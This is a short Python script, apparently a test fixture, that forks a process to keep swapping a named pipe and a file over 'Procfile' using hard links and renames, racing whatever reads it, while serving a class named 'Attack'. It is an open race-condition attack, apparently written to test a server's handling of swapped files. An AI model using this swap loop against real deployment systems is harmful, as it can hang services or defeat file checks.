import os

import server

if os.fork() == 0:
    os.mkfifo("pipe") if not os.path.exists("pipe") else None
    with open("kept", "w") as file:
        file.write("web: python app.py\n")
    while True:
        for name in ("pipe", "kept"):
            try:
                os.link(name, "next")
                os.rename("next", "Procfile")
            except OSError:
                pass


class Attack(server.Broken):
    def answer(self):
        os._exit(0)


server.serve(Attack)
